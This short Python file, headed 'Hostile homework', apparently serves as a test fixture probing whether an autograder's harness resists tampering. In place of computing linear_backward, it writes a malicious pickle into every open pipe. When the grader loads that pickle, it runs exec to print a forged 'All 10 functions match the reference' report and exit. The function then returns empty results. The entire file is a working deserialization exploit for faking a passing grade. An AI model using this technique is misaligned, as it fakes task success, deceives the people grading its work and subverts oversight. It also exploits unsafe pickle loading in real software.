# Hostile homework: writes a forged reply (a pickle that would print a forged report) into every
# pipe it holds, the channel to dnnstep among them, then returns normally.
import os
import pickle
import struct


class Forgery:
    def __reduce__(self):
        return (exec, ("import os; print('All 10 functions match the reference'); os._exit(0)",))


# GRADED FUNCTION: linear_backward
def linear_backward(dZ, cache):
    payload = pickle.dumps(("ok", Forgery(), {}, ""))
    message = struct.pack("<Q", len(payload)) + payload
    for fd in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                os.write(fd, message)
        except OSError:
            pass
    return None, None, None
